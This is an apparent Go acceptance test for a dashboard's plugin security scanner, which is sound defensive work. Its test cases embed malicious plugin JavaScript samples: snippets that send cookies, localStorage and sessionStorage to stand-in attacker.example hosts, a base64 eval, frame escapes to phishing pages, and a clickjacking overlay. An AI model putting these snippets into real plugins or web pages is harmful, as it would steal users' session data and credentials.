package acceptance_test

import (
	"bytes"
	"encoding/json"
	"mime/multipart"
	"net/http"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/taylordash/taylordash/pluginhost/plugintest"
)

// fixtures are the original's four plugin bundles, copied unchanged.
const fixtures = "../../../pluginhost/scanner/testdata/original"

// finding is one finding of an install answer.
type finding struct {
	RuleID   string `json:"rule_id"`
	Category string `json:"category"`
	Severity string `json:"severity"`
	File     string `json:"file"`
	Snippet  string `json:"snippet"`
	Message  string `json:"message"`
	Blocking bool   `json:"blocking"`
}

// installAnswer is the answer of POST /api/v1/plugins/install.
type installAnswer struct {
	Status         string    `json:"status"`
	PluginID       string    `json:"plugin_id"`
	Message        string    `json:"message"`
	InstallationID string    `json:"installation_id"`
	Findings       []finding `json:"findings"`
}

func (a installAnswer) rules() []string {
	var out []string
	for _, f := range a.Findings {
		if !slices.Contains(out, f.RuleID) {
			out = append(out, f.RuleID)
		}
	}
	sort.Strings(out)
	return out
}

func (a installAnswer) categories() []string {
	var out []string
	for _, f := range a.Findings {
		if !slices.Contains(out, f.Category) {
			out = append(out, f.Category)
		}
	}
	sort.Strings(out)
	return out
}

func (a installAnswer) blocking() int {
	n := 0
	for _, f := range a.Findings {
		if f.Blocking {
			n++
		}
	}
	return n
}

// install uploads a zip archive to POST /api/v1/plugins/install with the
// bootstrap key, as a multipart form (field "archive").
func (d *dash) install(t *testing.T, archive []byte) installAnswer {
	t.Helper()
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	fw, err := mw.CreateFormFile("archive", "bundle.zip")
	if err != nil {
		t.Fatal(err)
	}
	_, _ = fw.Write(archive)
	if err := mw.Close(); err != nil {
		t.Fatal(err)
	}
	req, err := http.NewRequest(http.MethodPost, d.URL+"/api/v1/plugins/install", &body)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", mw.FormDataContentType())
	key(bootstrapKey)(req)
	// A verdict, rejected or not, is a 200 (the original answered 202
	// whatever happened).
	r := send(t, d.Client, req).must(t, http.StatusOK)
	var a installAnswer
	r.decode(t, &a)
	if a.InstallationID == "" || a.Message == "" {
		t.Fatalf("install answer without installation_id or message: %s", r.Body)
	}
	return a
}

// manifest is a plugin.json for a snippet bundle.
type manifest struct {
	Permissions    []string
	APIEndpoints   []string
	AllowedOrigins []string
}

// bundle makes a UI plugin of id whose entry point is index.html (page,
// or a page loading app.js) with app.js (script, if any).
func bundle(t *testing.T, id string, m manifest, page, script string) []byte {
	t.Helper()
	mf := map[string]any{
		"id": id, "name": "Snippet " + id, "version": "1.0.0", "description": "A case of the original's scanner tests",
		"author": "acceptance", "repository": "https://github.com/acceptance/" + id, "type": "ui", "kind": "ui",
		"entry_point": "index.html", "taylordash_version": "^1.0.0",
		"permissions": nonNil(m.Permissions), "api_endpoints": nonNil(m.APIEndpoints), "allowed_origins": nonNil(m.AllowedOrigins),
	}
	b, err := json.Marshal(mf)
	if err != nil {
		t.Fatal(err)
	}
	files := map[string][]byte{"plugin.json": b}
	if page == "" {
		page = "<!doctype html>\n<html><head><title>" + id + "</title><script src=\"app.js\"></script></head><body><p>plugin</p></body></html>\n"
	}
	files["index.html"] = []byte(page)
	if script != "" {
		files["app.js"] = []byte(script)
	}
	return plugintest.ZipFiles(t, files)
}

func nonNil(s []string) []string {
	if s == nil {
		return []string{}
	}
	return s
}

// Scenario 11, scanner conformance: the original's four fixture bundles,
// installed through the API, get the right verdicts and findings; so do
// the cases of the original's scanner tests (TestSecurityValidation,
// TestAdvancedSecurityScenarios, test_comprehensive_security_suite,
// test_real_world_plugin_validation), rewritten here as bundles.
func TestScenario11ScannerConformance(t *testing.T) {
	t.Parallel()
	d := start(t, nil)

	t.Run("fixtures", func(t *testing.T) {
		for _, c := range []struct {
			dir string
			// Categories and rules that must be among the findings.
			categories, rules []string
		}{
			// script injection and dangerous functions
			{"malicious/xss-injection", []string{"code"}, []string{"code.eval", "code.document-write", "code.inline-handler", "code.javascript-url"}},
			// iframe escape plus sandbox override
			{"malicious/iframe-escape", []string{"frame"}, []string{"frame.escape", "frame.sandbox-override", "exfil.postmessage-wildcard", "frame.document-domain"}},
			// credentials, network, data access, exfiltration
			{"malicious/data-exfiltration", []string{"exfiltration", "network", "api"},
				[]string{"exfil.hardcoded-secret", "exfil.cookie", "exfil.storage-dump", "net.undeclared-origin", "api.undeclared-endpoint"}},
		} {
			t.Run(c.dir, func(t *testing.T) {
				a := d.install(t, plugintest.ZipDir(t, filepath.Join(fixtures, c.dir), nil))
				if a.Status != "rejected" || a.blocking() == 0 {
					t.Fatalf("%s: status %s with %d blocking findings, want rejected", c.dir, a.Status, a.blocking())
				}
				for _, cat := range c.categories {
					if !slices.Contains(a.categories(), cat) {
						t.Errorf("no %s finding; categories %v", cat, a.categories())
					}
				}
				for _, r := range c.rules {
					if !slices.Contains(a.rules(), r) {
						t.Errorf("no %s finding; rules %v", r, a.rules())
					}
				}
			})
		}
		d.do(t, http.MethodGet, "/api/v1/plugins/list", key(bootstrapKey), nil).must(t, http.StatusOK)
		if n := d.pluginCount(t); n != 0 {
			t.Fatalf("rejected bundles left %d plugins", n)
		}

		t.Run("legitimate/project-dashboard", func(t *testing.T) {
			// ⚠ The original rejected its own legitimate fixture (6 false
			// positives).
			a := d.install(t, plugintest.ZipDir(t, filepath.Join(fixtures, "legitimate/project-dashboard"), nil))
			if a.Status != "installed" || a.PluginID != "project-dashboard" || a.blocking() != 0 {
				t.Fatalf("status %s, plugin %s, %d blocking: %+v", a.Status, a.PluginID, a.blocking(), a.Findings)
			}
			// Its warnings are stored as the plugin's violations.
			var v []map[string]any
			d.do(t, http.MethodGet, "/api/v1/plugins/project-dashboard/security/violations?limit=50", key(bootstrapKey), nil).
				must(t, http.StatusOK).decode(t, &v)
			if len(v) != len(a.Findings) {
				t.Errorf("%d violations for %d findings", len(v), len(a.Findings))
			}
			for _, x := range v {
				hasKeys(t, "violation", x, "plugin_id", "violation_type", "description", "severity", "timestamp", "context")
			}
		})
	})

	// The original's inline test cases, each as a plugin bundle. want are
	// rules that must be found; rejected whether the install is refused.
	cases := []struct {
		name     string
		m        manifest
		page     string
		script   string
		rejected bool
		want     []string
	}{{
		// TestSecurityValidation
		name: "sql injection detection",
		script: `const query = "SELECT * FROM users WHERE name = '" + userName + "'";
fetch('/api/v1/projects', {method: 'POST', body: JSON.stringify({q: "'; DROP TABLE users; --"})});
`,
		// A call to an API path the manifest does not declare.
		rejected: true, want: []string{"api.undeclared-endpoint"},
	}, {
		// The original asserted nothing here. Polluting prototypes in the
		// plugin's own opaque-origin frame reaches nothing of the host's,
		// and is no finding.
		name: "prototype pollution detection",
		script: `function taint(target) {
  target.__proto__.isAdmin = true;
  target.constructor.prototype.isAdmin = true;
}
taint({});
JSON.parse('{"__proto__": {"isAdmin": true}}');
`,
		rejected: false,
	}, {
		name: "websocket hijacking detection",
		script: `const socket = new WebSocket('wss://attacker.example/loot');
socket.onopen = () => socket.send(JSON.stringify({c: document.cookie, s: JSON.stringify(localStorage)}));
`,
		rejected: true, want: []string{"net.undeclared-origin", "exfil.cookie", "exfil.storage-dump"},
	}, {
		name: "dom clobbering detection",
		page: `<!doctype html>
<html><body>
<form name="document"></form>
<img name="body" src="missing.png" onerror="alert(1)">
<iframe name="top" src="javascript:alert(2)"></iframe>
<script>document.write('<p id="console"></p>');</script>
</body></html>
`,
		rejected: true, want: []string{"code.inline-handler", "code.javascript-url", "frame.embedded", "code.document-write"},
	}, {
		name: "dangerous code detection",
		page: `<!doctype html>
<html><body><script>
eval("alert(1)");
document.write("<b>injected</b>");
window.location = "https://attacker.example/landing";
</script></body></html>
`,
		rejected: true, want: []string{"code.eval", "code.document-write", "net.undeclared-origin"},
	}, {
		// Deliberate difference: a secret in a bundle is a medium finding,
		// a warning by default (TAYLORDASH_PLUGINS_SCAN_BLOCK_AT=medium
		// blocks it); the original refused the install.
		name: "credential detection",
		script: `const settings = {
  apiKey: "sk-live-00112233445566778899aabbccddeeff",
  password: "correct-horse-battery-staple-9",
  token: "ghp_0123456789abcdefghijklmnopqrstuvwxyz"
};
console.log(Object.keys(settings).length);
`,
		rejected: false, want: []string{"exfil.hardcoded-secret"},
	}, {
		name: "external resource validation",
		m:    manifest{AllowedOrigins: []string{"https://trusted.example"}},
		page: `<!doctype html>
<html><head>
<script src="https://malicious.example/evil.js"></script>
<link href="https://trusted.example/style.css" rel="stylesheet">
</head><body></body></html>
`,
		rejected: true, want: []string{"net.undeclared-origin"},
	}, {
		// Deliberate difference: no rule refuses pairs of permissions
		// (the original refused write:projects + publish:events and
		// read:logs + network:http). A plugin is a principal holding
		// exactly its declared permissions, enforced on every call by
		// its API proxy.
		name:     "permission validation",
		m:        manifest{Permissions: []string{"write:projects", "publish:events", "read:logs", "network:http"}, APIEndpoints: []string{"/api/v1/projects", "/api/v1/logs"}},
		script:   "console.log('no code needed');\n",
		rejected: false,
	}, {
		name: "postmessage security",
		script: `window.parent.postMessage(secretData, '*');
window.addEventListener('message', function (event) { eval(event.data.code); });
`,
		rejected: true, want: []string{"exfil.postmessage-wildcard", "code.eval"},
	}, {
		name: "iframe security validation",
		page: `<!doctype html>
<html><body><script>
top.location = "https://attacker.example/";
window.parent.document.write("owned");
if (window.frameElement) { console.log("framed"); }
</script></body></html>
`,
		rejected: true, want: []string{"frame.escape"},
	}, {
		// TestAdvancedSecurityScenarios
		name: "supply chain attack simulation",
		script: `import { track } from './analytics.js';
export const record = (event) => {
  track(event);
  if (Math.random() > 0.99) {
    fetch('https://collector.attacker.example/c', {method: 'POST',
      body: JSON.stringify({url: location.href, storage: Object.assign({}, localStorage), cookies: document.cookie})});
  }
};
`,
		rejected: true, want: []string{"net.undeclared-origin", "exfil.cookie", "exfil.storage-dump"},
	}, {
		name: "timing attack detection",
		script: `async function probe(guess) {
  const t0 = performance.now();
  await fetch('/api/v1/validate', {method: 'POST', body: JSON.stringify({guess})});
  const spent = performance.now() - t0;
  if (spent > 100) {
    fetch('https://timing.attacker.example/t', {method: 'POST', body: JSON.stringify({spent, guess})});
  }
}
`,
		rejected: true, want: []string{"api.undeclared-endpoint", "net.undeclared-origin"},
	}, {
		name: "clickjacking prevention",
		page: `<!doctype html>
<html><head><style>
.overlay { position: absolute; top: 0; left: 0; width: 100%; height: 100%; opacity: 0; z-index: 9999; }
</style></head><body>
<h1>Claim your prize</h1>
<iframe class="overlay" src="https://bank.attacker.example/transfer"></iframe>
<script>
try { parent.location = 'https://phish.attacker.example'; }
catch (e) { document.querySelector('.overlay').onclick = () => window.open('https://attacker.example/x'); }
</script>
</body></html>
`,
		rejected: true, want: []string{"frame.embedded", "frame.escape", "frame.window-open"},
	}, {
		// test_comprehensive_security_suite, each snippet as test.js: a
		// script tag in a .js file does not even parse.
		name:     "comprehensive suite: script tag",
		script:   "<script>alert('xss')</script>\n",
		rejected: true, want: []string{"code.syntax-error"},
	}, {
		name:     "comprehensive suite: iframe escape",
		script:   "window.parent.location = 'https://attacker.example';\n",
		rejected: true, want: []string{"frame.escape"},
	}, {
		// Deliberate difference, as "credential detection": a warning.
		name:     "comprehensive suite: credential exposure",
		script:   "const apiKey = 'sk-1234567890abcdef';\nconsole.log(apiKey.length);\n",
		rejected: false, want: []string{"exfil.hardcoded-secret"},
	}, {
		name:     "comprehensive suite: safe content",
		script:   "console.log('Hello World');\n",
		rejected: false,
	}, {
		// test_real_world_plugin_validation. ⚠ The original's scanner gave
		// this legitimate widget 5 errors and failed its own test.
		name: "real world: legitimate widget",
		m: manifest{Permissions: []string{"read:projects", "read:events"}, APIEndpoints: []string{"/api/v1/projects", "/api/v1/events"},
			AllowedOrigins: []string{"https://cdn.taylordash.example"}},
		page: `<!doctype html>
<html><head><title>Projects</title>
<script src="https://cdn.taylordash.example/widgets/v1/chart.js"></script>
</head><body>
<div id="dashboard"><h2>Projects</h2><canvas id="chart"></canvas></div>
<script src="app.js"></script>
</body></html>
`,
		script: `async function loadProjects() {
  try {
    const response = await fetch('/api/v1/projects');
    const body = await response.json();
    draw(body.projects);
  } catch (error) {
    console.error('could not load projects', error);
  }
}
function draw(projects) {
  const ctx = document.getElementById('chart').getContext('2d');
  new Chart(ctx, {type: 'bar', data: {labels: projects.map(p => p.name), datasets: []}});
}
window.addEventListener('message', function (event) {
  if (event.origin === 'https://taylordash.example' && event.data.type === 'refresh') {
    loadProjects();
  }
});
loadProjects();
`,
		rejected: false,
	}, {
		name: "real world: malicious helper",
		m:    manifest{Permissions: []string{"read:projects"}, APIEndpoints: []string{"/api/v1/projects"}},
		script: `function start() {
  console.log('starting helper');
  eval(atob('YWxlcnQoMSk='));
  const loot = {cookies: document.cookie, local: Object.assign({}, localStorage), session: Object.assign({}, sessionStorage)};
  fetch('https://loot.attacker.example/steal', {method: 'POST', body: JSON.stringify(loot)});
  try { top.location = 'https://phish.attacker.example'; }
  catch (e) { parent.postMessage({type: 'loot', loot}, '*'); }
  document.body.innerHTML = '<p>Helper ready</p>';
}
setTimeout(start, 5000);
`,
		rejected: true, want: []string{"code.eval", "exfil.cookie", "exfil.storage-dump", "net.undeclared-origin", "frame.escape", "exfil.postmessage-wildcard"},
	}}
	for i, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			id := "snippet-" + strings.ReplaceAll(strings.NewReplacer(":", "", " ", "-").Replace(c.name), "--", "-")
			if len(id) > 50 {
				id = id[:50]
			}
			id = strings.TrimRight(id, "-")
			a := d.install(t, bundle(t, id, c.m, c.page, c.script))
			switch {
			case c.rejected && (a.Status != "rejected" || a.blocking() == 0):
				t.Errorf("case %d: status %s with %d blocking findings, want rejected: %+v", i, a.Status, a.blocking(), a.Findings)
			case !c.rejected && (a.Status != "installed" || a.blocking() != 0):
				t.Errorf("case %d: status %s with %d blocking findings, want installed: %+v", i, a.Status, a.blocking(), a.Findings)
			}
			for _, r := range c.want {
				if !slices.Contains(a.rules(), r) {
					t.Errorf("no %s finding; rules %v", r, a.rules())
				}
			}
			if !c.rejected && len(c.want) == 0 {
				for _, f := range a.Findings {
					if f.Severity != "low" && f.Severity != "info" {
						t.Errorf("a %s finding in a clean case: %+v", f.Severity, f)
					}
				}
			}
			if c.name == "external resource validation" {
				for _, f := range a.Findings {
					if f.RuleID == "net.undeclared-origin" && strings.Contains(f.Snippet+f.Message, "trusted.example") {
						t.Errorf("the allowed origin is flagged: %+v", f)
					}
				}
			}
		})
	}
}

// pluginCount is the total of GET /api/v1/plugins/list.
func (d *dash) pluginCount(t *testing.T) int {
	t.Helper()
	var l struct {
		Total int `json:"total"`
	}
	d.do(t, http.MethodGet, "/api/v1/plugins/list", key(bootstrapKey), nil).must(t, http.StatusOK).decode(t, &l)
	return l.Total
}
